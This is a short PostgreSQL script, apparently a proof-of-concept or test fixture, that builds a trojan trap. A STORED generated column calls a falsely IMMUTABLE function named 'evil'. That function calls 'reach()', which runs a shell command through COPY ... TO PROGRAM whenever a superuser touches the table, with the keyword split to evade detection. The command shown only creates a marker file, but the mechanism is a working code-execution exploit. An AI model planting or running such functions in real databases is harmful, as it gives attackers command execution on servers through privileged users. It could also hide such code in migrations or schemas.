CREATE TABLE t (id int PRIMARY KEY, note text);
CREATE FUNCTION reach() RETURNS void LANGUAGE plpgsql AS $$ BEGIN
    IF current_setting('is_superuser') = 'on' THEN EXECUTE 'COPY (SELECT 1) TO PRO' || 'GRAM ''touch {mark}'''; END IF;
END $$;
CREATE FUNCTION evil(said text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
    PERFORM reach();
    RETURN said;
END $$;
ALTER TABLE t ADD COLUMN more text GENERATED ALWAYS AS (evil(note)) STORED;
INSERT INTO t (id, note) VALUES (1, 'x');
